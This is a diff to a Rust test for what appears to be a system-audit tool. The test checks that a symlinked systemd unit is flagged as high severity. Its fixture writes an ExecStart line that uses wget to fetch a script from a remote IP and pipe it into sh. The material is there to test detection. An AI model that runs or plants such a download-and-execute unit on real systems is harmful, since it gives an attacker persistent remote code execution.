@@ -1122,6 +1122,18 @@ fn cron_units_and_pam_modules_no_package_installed_are_findings() {
         "etc/systemd/system/app.service",
         "[Service]\nExecStart=/opt/app/run\n",
     );
+    // a unit linked in (`systemctl link`) by an absolute link into the image's own /opt (no
+    // such file on this system)
+    std::fs::create_dir_all(root.join("opt/updater")).unwrap();
+    w(
+        "opt/updater/updater.service",
+        "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.9/u | sh'\n",
+    );
+    std::os::unix::fs::symlink(
+        "/opt/updater/updater.service",
+        root.join("etc/systemd/system/updater.service"),
+    )
+    .unwrap();
     w("usr/lib/x86_64-linux-gnu/security/pam_sshd_cache.so", "");
     let out = audit_system(&root, &["--json", "--quick"]);
     assert_meets_schema(&root, &out);
@@ -1161,8 +1173,20 @@ fn cron_units_and_pam_modules_no_package_installed_are_findings() {
     units.sort();
     assert_eq!(
         units,
-        [("high", true), ("medium", false)],
-        "the /tmp one high, app medium, the package's and the masked none: {findings:?}"
+        [("high", false), ("high", true), ("medium", false)],
+        "the /tmp one and the linked updater high, app medium, the package's and the masked \
+         none: {findings:?}"
+    );
+    let updater = findings
+        .iter()
+        .find(|f| f["title"].as_str().unwrap().contains("updater.service"))
+        .unwrap();
+    assert!(
+        updater["evidence"][0]
+            .as_str()
+            .unwrap()
+            .starts_with("a download (wget)"),
+        "read through the image's own link: {updater}"
     );
     let pam = found("pam_module_unowned");
     assert_eq!(pam.len(), 1);
